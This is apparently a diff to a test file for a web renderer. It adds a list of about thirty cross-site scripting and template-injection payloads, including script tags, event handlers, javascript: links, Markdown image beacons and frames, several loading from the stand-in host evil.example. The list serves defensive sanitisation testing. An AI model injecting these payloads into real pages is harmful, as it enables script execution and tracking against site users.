@@ -33,6 +33,39 @@ ARTICLES = {
     "The poison <script>window.hacked=1</script><img src='https://evil.example/p.png' onerror='window.hacked=1'>"
     " ![pixel](https://evil.example/q.png) was found {{7*7}} ${window.hacked=1}.\n",
 }
+PAYLOADS = (
+    "<script>hacked()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=hacked()>",
+    "<img src='https://evil.example/p.png'>",
+    '"><img src=x onerror=hacked()>',
+    "'><svg onload=hacked()>",
+    "<svg><script>hacked()</script></svg>",
+    "<svg><a xlink:href='javascript:hacked()'><text>x</text></a></svg>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
+    "<a href='javascript:hacked()'>press</a>",
+    "<a href='JaVaScRiPt&colon;hacked()' class=citation>press</a>",
+    "[press](javascript:hacked())",
+    "![pixel](https://evil.example/q.png)",
+    "![x](x 'onerror=hacked()')",
+    "<link rel=stylesheet href='https://evil.example/s.css'>",
+    "<style>@import 'https://evil.example/s.css'; body { background: url(https://evil.example/b.png) }</style>",
+    "<body onload=hacked()>",
+    "<input autofocus onfocus=hacked()>",
+    "<details open ontoggle=hacked()>",
+    "<video><source onerror=hacked()></video>",
+    "<object data='https://evil.example/o.swf'></object>",
+    "<embed src='https://evil.example/e.swf'>",
+    "<form action='https://evil.example/'><button>press</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href='https://evil.example/'>",
+    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
+    "{{constructor.constructor('hacked()')()}}",
+    "${hacked()}",
+    "<div style='background:url(https://evil.example/b.png)' onmouseover=hacked()>over</div>",
+)
+"""What a hostile article may hold: scripts, attributes, links and Markdown images."""
 _PATIENCE = 60_000
 """Milliseconds: long enough for a machine that is busy with other things."""
 
